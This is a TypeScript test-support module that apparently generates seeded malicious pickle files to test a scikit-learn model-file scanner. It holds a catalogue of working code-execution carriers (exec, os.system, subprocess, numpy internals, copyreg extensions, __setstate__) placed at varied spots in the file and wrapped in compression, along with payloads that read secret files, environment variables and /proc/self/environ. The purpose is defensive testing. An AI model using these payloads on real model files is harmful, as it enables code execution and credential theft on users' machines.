import { deflateSync, gzipSync } from 'node:zlib';
import { array, int32, line, pickled, text, type } from '../../src/adapters/sklearn/scan/pickles.ts';
import { Random } from '../run/support/random.ts';

/** What somebody does who can have code carried out here. */
export type Deed = 'write' | 'connect' | 'read';
/** What the deeds are about. */
export interface Prey {
  /** A file that it makes. */
  readonly target: string;
  /** Of this machine; whoever listens there hears it. */
  readonly port: number;
  /** A file of somebody's home that it reads, and a variable of whoever loads it. */
  readonly secretFile: string;
  readonly secretVariable: string;
  /** A Python that it begins. */
  readonly python: string;
}
export interface Variant {
  readonly content: Buffer;
  /** For people: the deed, what carries it out, and how it is wrapped. */
  readonly name: string;
  readonly deed: Deed;
  /** It is carried out in the process that loads it, and says so. */
  readonly speaks: boolean;
}
/** What it says that was carried out, whether it could do what it wanted or not. */
export const carriedOut = 'it was carried out';

/** Python; on one level, for `exec` may have two scopes. */
function codeOf(deed: Deed, { target, port, secretFile, secretVariable }: Prey, random: Random): string {
  const does: Readonly<Record<Deed, readonly string[]>> = {
    write: [
      `open(${JSON.stringify(target)}, 'w').write('written')`,
      `import pathlib; pathlib.Path(${JSON.stringify(target)}).write_text('written')`,
      `import os; os.close(os.open(${JSON.stringify(target)}, os.O_CREAT | os.O_WRONLY))`,
    ],
    connect: [
      `import socket; socket.create_connection(('127.0.0.1', ${port}), 5)`,
      `import urllib.request; urllib.request.urlopen('http://127.0.0.1:${port}/', timeout=5)`,
      `import _socket; one = _socket.socket(2, 1); one.connect(('127.0.0.1', ${port}))`,
    ],
    read: [
      `said = open(${JSON.stringify(secretFile)}).read()`,
      `import os; said = os.environ[${JSON.stringify(secretVariable)}]`,
      `said = open('/proc/self/environ').read()`,
    ],
  };
  return [
    "said = ''",
    'try:',
    ...random
      .one(does[deed])
      .split('; ')
      .map((each) => `    ${each}`),
    'except BaseException as error:',
    '    said = type(error).__name__',
    'print(said, flush=True)',
    `raise Exception(${JSON.stringify(`${carriedOut}: `)} + said)`,
  ].join('\n');
}

/** Writes the same in one of the ways in which pickles may say it. */
class Writer {
  readonly #random: Random;
  constructor(random: Random) {
    this.#random = random;
  }

  text(of: string): Buffer {
    const bytes = Buffer.from(of);
    const escaped = of.replaceAll('\\', '\\u005c').replaceAll('\n', '\\u000a');
    return this.#random.one([
      () => pickled('UNICODE', line(escaped)),
      () => pickled('BINUNICODE', int32(bytes.length), bytes),
      () => (bytes.length < 256 ? text(of) : pickled('BINUNICODE', int32(bytes.length), bytes)),
    ])();
  }
  bytes(of: Uint8Array): Buffer {
    return pickled('BINBYTES', int32(of.length), of);
  }
  global(module: string, name: string): Buffer {
    // What has a dot within is found by the newer one alone.
    const isOld = !name.includes('.') && this.#random.chance(0.5);
    const own = isOld
      ? pickled('GLOBAL', line(module), line(name))
      : pickled(this.text(module), this.text(name), 'STACK_GLOBAL');
    return this.#random.chance(0.3) ? pickled(own, 'BINPUT', 7, 'POP', 'BINGET', 7) : own;
  }
  call(what: Buffer, ...values: readonly Buffer[]): Buffer {
    return this.#random.chance(0.7)
      ? pickled(what, 'MARK', ...values, 'TUPLE', 'REDUCE')
      : pickled('MARK', what, ...values, 'OBJ');
  }
  callOf(module: string, name: string, ...values: readonly Buffer[]): Buffer {
    return !name.includes('.') && this.#random.chance(0.2)
      ? pickled('MARK', ...values, 'INST', line(module), line(name))
      : this.call(this.global(module, name), ...values);
  }
}

const dictionary = pickled('EMPTY_DICT');
const none = pickled('NONE');
const shell = (of: string): string => `'${of.replaceAll("'", "'\\''")}'`;
const asExpression = (code: string): string => `exec(${JSON.stringify(code)})`;

interface Carrier {
  readonly speaks: boolean;
  readonly make: (of: { readonly write: Writer; readonly code: string; readonly python: string }) => Buffer;
}
/** By what a pickle has code carried out; of the list that is let through some hold what would do it, were its modules allowed as a whole. */
const carriers: Readonly<Record<string, Carrier>> = {
  exec: { speaks: true, make: ({ write, code }) => write.callOf('builtins', 'exec', write.text(code)) },
  eval: { speaks: true, make: ({ write, code }) => write.callOf('builtins', 'eval', write.text(asExpression(code))) },
  'os.system': {
    speaks: false,
    make: ({ write, code, python }) => write.callOf('os', 'system', write.text(`${shell(python)} -c ${shell(code)}`)),
  },
  'posix.system': {
    speaks: false,
    make: ({ write, code, python }) =>
      write.callOf('posix', 'system', write.text(`${shell(python)} -c ${shell(code)}`)),
  },
  subprocess: {
    speaks: false,
    make: ({ write, code, python }) =>
      write.callOf(
        'subprocess',
        'call',
        pickled('EMPTY_LIST', 'MARK', write.text(python), write.text('-c'), write.text(code), 'APPENDS'),
      ),
  },
  timeit: {
    speaks: true,
    make: ({ write, code }) =>
      write.callOf(
        'timeit',
        'timeit',
        ...[write.text(code), write.text('pass'), write.global('time', 'perf_counter'), pickled('BININT1', 1)],
      ),
  },
  'numpy.testing': {
    speaks: true,
    make: ({ write, code }) => write.callOf('numpy.testing._private.utils', 'runstring', write.text(code), dictionary),
  },
  'numpy.f2py': {
    speaks: true,
    make: ({ write, code }) =>
      write.callOf('numpy.f2py.crackfortran', 'myeval', write.text(asExpression(code)), dictionary),
  },
  'functools.partial': {
    speaks: true,
    make: ({ write, code }) =>
      write.call(write.callOf('functools', 'partial', write.global('builtins', 'exec'), write.text(code))),
  },
  'an import and an attribute': {
    speaks: true,
    make: ({ write, code }) =>
      write.call(
        write.callOf(
          'builtins',
          'getattr',
          write.callOf('importlib', 'import_module', write.text('builtins')),
          write.text('exec'),
        ),
        write.text(code),
      ),
  },
  'a module within a module': {
    speaks: false,
    make: ({ write, code, python }) =>
      write.call(write.global('joblib.parallel', 'os.system'), write.text(`${shell(python)} -c ${shell(code)}`)),
  },
  'a pickle within': {
    speaks: true,
    make: ({ write, code }) =>
      write.callOf(
        '_pickle',
        'loads',
        write.bytes(pickled('PROTO', 4, write.callOf('builtins', 'exec', write.text(code)), 'STOP')),
      ),
  },
  'an extension': {
    speaks: true,
    make: ({ write, code }) =>
      pickled(
        write.callOf('copyreg', 'add_extension', write.text('builtins'), write.text('exec'), pickled('BININT1', 201)),
        'POP',
        write.call(pickled('EXT1', 201), write.text(code)),
      ),
  },
  'the state of an estimator': {
    speaks: true,
    make: ({ write, code }) =>
      pickled(
        ...[write.global('sklearn.linear_model._base', 'LinearRegression'), 'EMPTY_TUPLE', 'NEWOBJ'],
        // It says a version as others do: else it is refused before anything is carried out.
        ...['EMPTY_DICT', write.text('_sklearn_version'), write.text('1.5.2'), 'SETITEM'],
        ...[write.text('__setstate__'), write.global('builtins', 'exec'), 'SETITEM', 'BUILD'],
        ...[write.text(code), 'BUILD'],
      ),
  },
};

const estimator = (write: Writer): Buffer =>
  pickled(write.global('sklearn.linear_model._base', 'LinearRegression'), 'EMPTY_TUPLE', 'NEWOBJ');
/** Where it stands in the file. */
const places: Readonly<Record<string, (body: Buffer, write: Writer, random: Random) => Buffer>> = {
  alone: (body, _, random) => pickled('PROTO', 2 + random.below(4), body, 'STOP'),
  'of the first protocol': (body) => pickled(body, 'STOP'),
  'thrown away': (body, write) => pickled('PROTO', 4, body, 'POP', estimator(write), 'STOP'),
  'among parameters': (body, write) =>
    pickled('PROTO', 4, estimator(write), 'EMPTY_DICT', write.text('coef_'), body, 'SETITEM', 'BUILD', 'STOP'),
  'a key': (body) => pickled('PROTO', 4, 'EMPTY_DICT', body, none, 'SETITEM', 'STOP'),
  'in an array': (body) => pickled('PROTO', 4, array([1], type('O8', 63)), 'PROTO', 4, body, 'STOP', 'STOP'),
};
const packings: Readonly<Record<string, (content: Buffer) => Buffer>> = {
  'as it is': (content) => content,
  zlib: (content) => deflateSync(content),
  gzip: (content) => gzipSync(content),
};

/** One of many files that do something when they are loaded. The same for the same seed. */
export function variantOf(seed: number, prey: Prey): Variant {
  const random = new Random(seed);
  const deeds = ['write', 'connect', 'read'] as const;
  const deed = deeds[seed % deeds.length] as Deed;
  const names = Object.keys(carriers);
  // One after the other, so that few seeds have all.
  const carried = names[Math.floor(seed / deeds.length) % names.length] as string;
  const { speaks, make } = carriers[carried] as Carrier;
  const write = new Writer(random);
  const place = random.one(Object.keys(places));
  const packing = random.one(Object.keys(packings));
  const body = make({ write, code: codeOf(deed, prey, random), python: prey.python });
  const placed = (places[place] as (typeof places)[string])(body, write, random);
  return {
    content: (packings[packing] as (typeof packings)[string])(placed),
    name: `${deed}, by ${carried}, ${place}, ${packing}`,
    ...{ deed, speaks },
  };
}
/** So many seeds have each deed by each way. */
export const allVariants = 3 * Object.keys(carriers).length;
